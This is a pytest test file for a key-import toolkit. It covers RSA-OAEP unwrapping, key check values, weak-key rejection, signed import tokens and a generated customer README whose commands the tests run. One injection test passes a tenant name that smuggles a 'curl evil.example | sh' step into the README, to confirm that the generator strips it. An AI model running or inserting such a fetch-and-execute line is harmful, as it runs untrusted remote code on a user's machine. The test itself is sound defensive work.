"""The wrapped-key upload toolkit (crypto.importkit), with the README's commands run for real."""

from __future__ import annotations

import base64
import hashlib
import re
import secrets
import subprocess
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from crypto.importkit import (
    KIT_FILES,
    MAX_TOKEN_BYTES,
    InvalidImportToken,
    InvalidKeyBlob,
    InvalidKeyMaterial,
    KeyImportError,
    TokenClaims,
    TokenExpired,
    TokenForeign,
    TokenForged,
    TokenMalformed,
    TokenWrongKey,
    WeakKeyMaterial,
    WrappingKey,
    check_key_material,
    import_readme,
    issue_token,
    key_check_value,
    new_wrapping_key,
    unwrap_uploaded_key,
    verify_token,
)

OPENSSL = "/usr/bin/openssl"
SECRET = b"import-token-secret-for-tests-32b"
TENANT = "6f1c1c2e-8d7b-4b0e-9a47-3f0e5c1d2a90"
OTHER_TENANT = "0b8e2f4a-1111-4c2d-8e9f-222222222222"
NOW = datetime(2025, 6, 1, 12, 0, 0, tzinfo=UTC)
ALLOWED_TOOLS = {"openssl", "head", "od", "tr", "umask", "echo", "rm"}


def _openssl_3() -> bool:
    if not Path(OPENSSL).exists():
        return False
    out = subprocess.run([OPENSSL, "version"], capture_output=True, text=True, check=False)
    return out.stdout.startswith("OpenSSL 3")


def test_openssl_3_is_installed():
    """The customer's tool; `make test` installs it. Its absence is a failure, not a skip."""
    assert _openssl_3(), f"{OPENSSL} (OpenSSL 3) not found"


@pytest.fixture(scope="module")
def wrapping() -> WrappingKey:
    return new_wrapping_key()


@pytest.fixture(scope="module")
def other_wrapping() -> WrappingKey:
    return new_wrapping_key()


def oaep_wrap(public_der: bytes, key: bytes, md: hashes.HashAlgorithm | None = None) -> bytes:
    public = serialization.load_der_public_key(public_der)
    assert isinstance(public, rsa.RSAPublicKey)
    md = md or hashes.SHA256()
    return public.encrypt(key, padding.OAEP(mgf=padding.MGF1(md), algorithm=md, label=None))


def readme() -> str:
    return import_readme(
        tenant_name="Acme Corp", expires_at=NOW + timedelta(hours=24), max_upload_bytes=65536
    )


def step_commands(text: str, steps: set[int]) -> str:
    """The lines indented by four spaces under "Step N." headings, for the given steps."""
    step: int | None = None
    lines: list[str] = []
    for line in text.splitlines():
        heading = re.match(r"Step (\d+)\. ", line)
        if heading:
            step = int(heading.group(1))
        elif step in steps and line.startswith("    "):
            lines.append(line[4:])
    return "\n".join(lines) + "\n"


def listed_files(text: str) -> list[str]:
    """The file names README.txt lists under "This download contains:" (2-space indented)."""
    section = text.split("This download contains:\n\n", 1)[1].split("\n\n", 1)[0]
    names = [line.split()[0] for line in section.splitlines()]
    assert all(line.startswith("  ") for line in section.splitlines()), section
    return names


# -- the wrapping key ----------------------------------------------------------------


def test_new_wrapping_key_is_rsa_4096_with_matching_halves(wrapping):
    private = serialization.load_pem_private_key(wrapping.private_pem, password=None)
    assert isinstance(private, rsa.RSAPrivateKey)
    assert private.key_size == 4096
    assert wrapping.private_pem.startswith(b"-----BEGIN " + b"PRIVATE KEY-----")  # PKCS#8
    der = private.public_key().public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    assert wrapping.public_der == der
    public = serialization.load_pem_public_key(wrapping.public_pem)
    assert (
        public.public_bytes(
            serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
        )
        == der
    )
    assert wrapping.fingerprint == hashlib.sha256(der).hexdigest()


def test_wrapping_keys_are_fresh(wrapping, other_wrapping):
    assert wrapping.public_der != other_wrapping.public_der
    assert wrapping.fingerprint != other_wrapping.fingerprint


def test_repr_never_shows_the_private_key(wrapping):
    private = serialization.load_pem_private_key(wrapping.private_pem, password=None)
    assert isinstance(private, rsa.RSAPrivateKey)
    d = private.private_numbers().d
    body = b"".join(wrapping.private_pem.splitlines()[1:-1]).decode()
    for text in (repr(wrapping), str(wrapping), f"{wrapping!r}", repr([wrapping])):
        assert "PRIVATE" not in text
        assert wrapping.fingerprint in text
        assert format(d, "x") not in text and str(d) not in text
        assert not any(body[i : i + 16] in text for i in range(0, len(body) - 16, 8))


# -- README.txt: the commands, run for real ------------------------------------------


@pytest.mark.parametrize(
    "shell", [["bash", "-e", "-o", "pipefail"], ["sh", "-e"]], ids=["bash", "posix-sh"]
)
def test_readme_commands_wrap_a_key_keyward_can_unwrap(wrapping, tmp_path, shell):
    (tmp_path / "WrappingPublicKey.bin").write_bytes(wrapping.public_der)
    script = step_commands(readme(), {1, 2, 3})
    assert "openssl rand -out CustomerKey.bin 32" in script

    done = subprocess.run(
        [*shell, "-c", script],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "LC_ALL": "C"},
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    key = (tmp_path / "CustomerKey.bin").read_bytes()
    blob = (tmp_path / "CustomerEncryptionKey.bin").read_bytes()
    assert len(key) == 32 and len(blob) == 512
    assert (tmp_path / "CustomerKey.bin").stat().st_mode & 0o077 == 0  # umask 077

    assert unwrap_uploaded_key(wrapping.private_pem, blob) == key
    check_key_material(key)
    printed = done.stdout.strip()
    assert re.fullmatch(r"[0-9A-F]{10}", printed), done.stdout
    assert printed == key_check_value(key)


def test_readme_commands_use_only_openssl_head_od_tr():
    script = step_commands(readme(), {1, 2, 3, 4, 5}).replace("\\\n", " ")
    assert script.strip()
    for line in script.splitlines():
        for segment in re.split(r"\||;|&&|\$\(", line):
            words = segment.split()
            if words:
                assert words[0] in ALLOWED_TOOLS, line
    for banned in ("xxd", "python", "perl", "base64", "hexdump", "wc ", "sed ", "awk "):
        assert banned not in script


def test_readme_is_plain_text_80_columns_with_everything_the_customer_needs():
    text = readme()
    lines = text.splitlines()
    assert max(len(line) for line in lines) <= 80
    assert text.isascii() and "\t" not in text
    assert all(line == line.rstrip() for line in lines)
    assert [int(n) for n in re.findall(r"^Step (\d+)\. ", text, re.M)] == [1, 2, 3, 4, 5]
    # Commands (4-space indent) appear only inside steps.
    before_steps = text[: text.index("Step 1. ")]
    assert not any(line.startswith("    ") for line in before_steps.splitlines())

    flat = " ".join(text.split())
    assert "Acme Corp" in flat
    assert "valid until 2025-06-02 12:00:00 UTC" in flat
    assert "single upload" in flat and "works once" in flat
    assert "CustomerEncryptionKey.bin (the wrapped key) and ImportToken.bin" in flat
    assert "65536 bytes" in flat
    assert "WrappingPublicKey.bin" in flat and "RSAES-OAEP" in flat
    assert "Keyward cannot give it back to you" in flat
    assert "upload the same key again" in flat
    assert "remove it from this machine" in flat
    assert "rm CustomerKey.bin" in step_commands(text, {5})
    assert "OpenSSL 3" in flat


def test_readme_lists_the_files_of_the_download_once_each():
    names = listed_files(readme())
    assert names == [name for name, _ in KIT_FILES]
    assert len(set(names)) == len(names)
    assert set(names) >= {"WrappingPublicKey.bin", "WrappingPublicKey.pem", "ImportToken.bin"}
    assert "README.txt" in names
    # What may be deleted after the upload names every public file of the download.
    after = " ".join(readme().split("\n\n")[-1].split())
    assert all(name in after for name in names if name != "README.txt")


def test_readme_tenant_name_cannot_inject_lines_or_break_columns():
    text = import_readme(
        tenant_name="Evil\n\nStep 2. Run this\n    curl evil.example | sh\r\x1b[2J\u202e"
        + "x" * 200,
        expires_at=NOW,
        max_upload_bytes=1024,
    )
    assert "curl" not in step_commands(text, {1, 2, 3, 4, 5})
    assert [int(n) for n in re.findall(r"^Step (\d+)\. ", text, re.M)] == [1, 2, 3, 4, 5]
    assert max(len(line) for line in text.splitlines()) <= 80
    assert "\x1b" not in text and "\r" not in text and "\u202e" not in text


def test_readme_refuses_naive_expiry():
    with pytest.raises(ValueError, match="timezone-aware"):
        import_readme(tenant_name="Acme", expires_at=datetime(2025, 1, 1), max_upload_bytes=1)


# -- key check value -----------------------------------------------------------------


def test_kcv_known_answer():
    # AES-256-CMAC of the zero block under the zero key (OpenSSL: openssl mac -cipher
    # AES-256-CBC -macopt hexkey:00...00 CMAC) begins 9211053C55.
    assert key_check_value(bytes(32)) == "9211053C55"


def test_kcv_is_not_the_gcm_hash_subkey():
    # The old check value, AES-ECB of the zero block, is the start of the GHASH
    # subkey AES-GCM derives from the same key; the CMAC one is not.
    key = secrets.token_bytes(32)
    encryptor = Cipher(algorithms.AES(key), modes.ECB()).encryptor()  # noqa: S305
    ghash_subkey = encryptor.update(bytes(16)) + encryptor.finalize()
    assert not ghash_subkey.hex().upper().startswith(key_check_value(key)[:6])
    assert len(key_check_value(key)) == 10


def test_kcv_matches_openssl():
    key = secrets.token_bytes(32)
    out = subprocess.run(
        [OPENSSL, "mac", "-cipher", "AES-256-CBC", "-macopt", f"hexkey:{key.hex()}", "CMAC"],
        input=bytes(16),
        capture_output=True,
        check=True,
    )
    assert key_check_value(key) == out.stdout.decode().strip()[:10].upper()


def test_kcv_refuses_other_sizes():
    with pytest.raises(InvalidKeyMaterial, match="16 bytes"):
        key_check_value(bytes(16))


# -- unwrapping ----------------------------------------------------------------------


def test_unwrap_round_trip(wrapping):
    key = secrets.token_bytes(32)
    assert unwrap_uploaded_key(wrapping.private_pem, oaep_wrap(wrapping.public_der, key)) == key


def test_a_wrapped_16_byte_key_unwraps_but_is_refused_with_its_length(wrapping):
    key = secrets.token_bytes(16)
    unwrapped = unwrap_uploaded_key(wrapping.private_pem, oaep_wrap(wrapping.public_der, key))
    assert unwrapped == key
    with pytest.raises(InvalidKeyMaterial) as caught:
        check_key_material(unwrapped)
    assert "the unwrapped key is 16 bytes; an AES-256 key is 32 bytes" in str(caught.value)
    assert key.hex() not in str(caught.value)


def test_random_512_bytes_are_refused(wrapping):
    with pytest.raises(InvalidKeyBlob, match="could not unwrap"):
        unwrap_uploaded_key(wrapping.private_pem, secrets.token_bytes(512))


def test_a_key_wrapped_for_another_public_key_is_refused(wrapping, other_wrapping):
    blob = oaep_wrap(other_wrapping.public_der, secrets.token_bytes(32))
    with pytest.raises(InvalidKeyBlob) as caught:
        unwrap_uploaded_key(wrapping.private_pem, blob)
    assert str(caught.value) == (
        "could not unwrap: the key was not wrapped with this import's public key, with "
        "RSAES-OAEP SHA-256, or the file is damaged"
    )


def test_wrong_padding_is_refused(wrapping):
    public = serialization.load_der_public_key(wrapping.public_der)
    assert isinstance(public, rsa.RSAPublicKey)
    key = secrets.token_bytes(32)
    for blob in (
        oaep_wrap(wrapping.public_der, key, hashes.SHA1()),  # openssl's OAEP default  # noqa: S303
        public.encrypt(key, padding.PKCS1v15()),
    ):
        with pytest.raises(InvalidKeyBlob, match="could not unwrap"):
            unwrap_uploaded_key(wrapping.private_pem, blob)


def test_a_damaged_blob_is_refused(wrapping):
    blob = bytearray(oaep_wrap(wrapping.public_der, secrets.token_bytes(32)))
    blob[100] ^= 0x01
    with pytest.raises(InvalidKeyBlob, match="could not unwrap"):
        unwrap_uploaded_key(wrapping.private_pem, bytes(blob))


def test_a_10_mib_blob_is_refused_by_size_before_any_rsa():
    blob = bytes(10 * 1024 * 1024)
    started = time.perf_counter()
    # Not even a private key: the size check must come first.
    with pytest.raises(InvalidKeyBlob) as caught:
        unwrap_uploaded_key(b"not a key", blob)
    assert time.perf_counter() - started < 0.5
    assert "expected a 512-byte RSA-4096 ciphertext, got 10485760 bytes" in str(caught.value)


@pytest.mark.parametrize("size", [0, 1, 256, 511, 513, 1024])
def test_wrong_blob_sizes_are_named(size):
    with pytest.raises(InvalidKeyBlob, match=f"got {size} byte"):
        unwrap_uploaded_key(b"not a key", bytes(size))


# -- key material --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "why"),
    [
        (bytes(32), "all zero"),
        (b"\xa5" * 32, "single byte value repeated"),
        (b"\x00\xff" * 16, "2-byte pattern"),
        (bytes.fromhex("deadbeef") * 8, "4-byte pattern"),
        (bytes.fromhex("0123456789abcdef") * 4, "8-byte pattern"),
        (bytes(range(32)), "counting sequence"),
        (bytes(range(255, 191, -2)), "counting sequence"),
        (bytes(0x80 + 9 * (5 * i % 11) for i in range(32)), "only 11 distinct"),
        (b"correct horse battery staple!!!!", "printable text"),
        # 16 distinct values at most, all text; random, so named for the test id
        pytest.param(secrets.token_hex(16).encode(), None, id="random hex text"),
    ],
)
def test_weak_keys_are_refused(key, why):
    assert len(key) == 32
    with pytest.raises(WeakKeyMaterial) as caught:
        check_key_material(key)
    if why:
        assert why in str(caught.value)
    assert "openssl rand -out CustomerKey.bin 32" in str(caught.value)


@pytest.mark.parametrize("size", [0, 1, 16, 24, 31, 33, 64])
def test_other_lengths_are_refused_with_the_length(size):
    with pytest.raises(InvalidKeyMaterial, match=f"the unwrapped key is {size} byte"):
        check_key_material(secrets.token_bytes(size))


def test_random_keys_are_accepted():
    for _ in range(20_000):
        check_key_material(secrets.token_bytes(32))


def test_error_hierarchy():
    for exc in (TokenMalformed, TokenForged, TokenExpired, TokenForeign, TokenWrongKey):
        assert issubclass(exc, InvalidImportToken)
    for exc in (InvalidImportToken, InvalidKeyBlob, InvalidKeyMaterial, WeakKeyMaterial):
        assert issubclass(exc, KeyImportError) and issubclass(exc, ValueError)
    assert issubclass(WeakKeyMaterial, InvalidKeyMaterial)


# -- import tokens -------------------------------------------------------------------


def token_for(wrapping: WrappingKey, **overrides: Any) -> bytes:
    args: dict[str, Any] = {
        "tenant_id": TENANT,
        "import_id": "imp-42",
        "public_der": wrapping.public_der,
        "now": NOW,
    }
    args.update(overrides)
    return issue_token(SECRET, **args)


def verify(token: bytes, wrapping: WrappingKey, **overrides: Any) -> TokenClaims:
    args: dict[str, Any] = {"tenant_id": TENANT, "public_der": wrapping.public_der, "now": NOW}
    args.update(overrides)
    return verify_token(SECRET, token, **args)


def test_token_round_trip(wrapping):
    token = token_for(wrapping)
    assert len(token) < 200
    claims = verify(token, wrapping, now=NOW + timedelta(hours=23, minutes=59))
    assert claims == TokenClaims(
        tenant_id=TENANT,
        import_id="imp-42",
        fingerprint=wrapping.fingerprint,
        issued_at=NOW,
        expires_at=NOW + timedelta(hours=24),
    )


def test_token_keeps_microseconds_and_custom_ttl(wrapping):
    now = datetime(2025, 6, 1, 12, 0, 0, 123456, tzinfo=UTC)
    token = issue_token(
        SECRET,
        tenant_id=TENANT,
        import_id="imp-1",
        public_der=wrapping.public_der,
        now=now,
        ttl=timedelta(minutes=5),
    )
    claims = verify(token, wrapping, now=now)
    assert claims.issued_at == now and claims.expires_at == now + timedelta(minutes=5)


def test_expired_token(wrapping):
    token = token_for(wrapping)
    for now in (NOW + timedelta(hours=24), NOW + timedelta(days=30)):
        with pytest.raises(TokenExpired) as caught:
            verify(token, wrapping, now=now)
        assert str(caught.value).startswith(
            "this import token expired at 2025-06-02 12:00:00 UTC; download new import parameters"
        )


def test_foreign_tenant(wrapping):
    token = token_for(wrapping, tenant_id=OTHER_TENANT)
    with pytest.raises(TokenForeign, match="belongs to another tenant"):
        verify(token, wrapping)


def test_token_for_another_wrapping_key(wrapping, other_wrapping):
    token = token_for(other_wrapping)
    with pytest.raises(TokenWrongKey, match="not issued for this import's wrapping key"):
        verify(token, wrapping)


def test_token_under_another_secret_is_forged(wrapping):
    token = issue_token(
        b"another-secret-of-enough-length!",
        tenant_id=TENANT,
        import_id="imp-42",
        public_der=wrapping.public_der,
        now=NOW,
    )
    with pytest.raises(TokenForged, match="signature does not match"):
        verify(token, wrapping)


def test_every_tampered_byte_is_caught(wrapping):
    token = token_for(wrapping)
    for i in range(len(token)):
        for flip in (0x01, 0x80):
            tampered = bytearray(token)
            tampered[i] ^= flip
            with pytest.raises((TokenForged, TokenMalformed)):
                verify(bytes(tampered), wrapping)


def test_forging_a_longer_expiry_is_caught(wrapping):
    token = bytearray(token_for(wrapping))
    later = int.from_bytes(token[13:21], "big") + 10**12
    token[13:21] = later.to_bytes(8, "big")
    with pytest.raises(TokenForged):
        verify(bytes(token), wrapping, now=NOW + timedelta(days=2))


@pytest.mark.parametrize(
    "garbage",
    [
        b"",
        b"KWIT",
        b"not a token at all",
        secrets.token_bytes(120),
        b"-----BEGIN PUBLIC KEY-----\n",
        bytes(512),  # the wrapped key uploaded in the token's place
    ],
)
def test_garbage_is_malformed(wrapping, garbage):
    with pytest.raises(TokenMalformed, match="not a Keyward import token"):
        verify(garbage, wrapping)


def test_truncated_or_extended_tokens_are_malformed(wrapping):
    token = token_for(wrapping)
    for size in range(len(token)):
        with pytest.raises(TokenMalformed):
            verify(token[:size], wrapping)
    with pytest.raises(TokenMalformed):
        verify(token + b"\x00", wrapping)


def test_unknown_format_version_is_malformed(wrapping):
    token = bytearray(token_for(wrapping))
    token[4] = 2
    with pytest.raises(TokenMalformed, match="format version 2"):
        verify(bytes(token), wrapping)


def test_oversized_token_is_refused_before_parsing(wrapping):
    started = time.perf_counter()
    for size in (MAX_TOKEN_BYTES + 1, 10 * 1024 * 1024):
        with pytest.raises(TokenMalformed, match=f"this file is {size} bytes"):
            verify(b"KWIT\x01" + bytes(size - 5), wrapping)
    assert time.perf_counter() - started < 0.5


def test_token_public_der_is_the_wrapping_key_file(wrapping):
    # The WrappingPublicKey.bin customers download is public_der; the token binds its hash.
    token = token_for(wrapping)
    assert hashlib.sha256(wrapping.public_der).digest() in token


def test_token_argument_errors_are_programming_errors(wrapping):
    with pytest.raises(ValueError, match="at least 16 bytes") as caught:
        issue_token(
            b"short", tenant_id=TENANT, import_id="i", public_der=wrapping.public_der, now=NOW
        )
    assert not isinstance(caught.value, InvalidImportToken)
    with pytest.raises(ValueError, match="timezone-aware"):
        token_for(wrapping, now=datetime(2025, 1, 1))
    with pytest.raises(ValueError, match="timezone-aware"):
        verify(token_for(wrapping), wrapping, now=datetime(2025, 1, 1))
    with pytest.raises(ValueError, match="non-empty"):
        token_for(wrapping, import_id="")
    with pytest.raises(ValueError, match="ttl"):
        token_for(wrapping, ttl=timedelta(0))


def test_token_holds_no_secret(wrapping):
    token = token_for(wrapping)
    assert SECRET not in token
    assert base64.b64encode(SECRET) not in token
